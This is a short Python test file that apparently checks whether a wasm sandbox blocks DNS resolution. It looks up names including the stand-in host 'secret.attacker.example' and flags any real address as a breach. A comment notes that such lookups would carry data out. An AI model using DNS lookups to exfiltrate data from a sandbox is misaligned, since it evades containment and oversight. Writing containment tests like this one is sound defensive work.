# tries: resolves names, which would carry data out
# observe: nothing resolves
# expect: contained
import socket

for name in ("example.com", "secret.attacker.example", "one.one.one.one"):
    try:
        address = socket.getaddrinfo(name, 80)[0][4][0]
        # The wasm socket layer invents addresses in 172.29.0.0/16.
        if not address.startswith("172.29."):
            print("BREACH:", name, address)
    except OSError as error:
        print(name, type(error).__name__)
